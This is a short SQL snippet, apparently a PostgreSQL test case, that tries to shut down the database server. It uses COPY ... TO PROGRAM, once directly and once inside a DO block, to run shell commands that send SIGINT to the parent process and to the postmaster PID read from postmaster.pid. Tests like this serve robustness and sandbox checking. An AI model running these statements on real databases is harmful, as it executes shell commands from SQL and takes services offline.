-- Tries: to shut the server down through a program.
copy (select 1) to program 'kill -INT $PPID; true'; do $$ begin execute 'copy (select 1) to program ''head -1 postmaster.pid | xargs kill -INT'''; end $$; select pg_sleep(1);
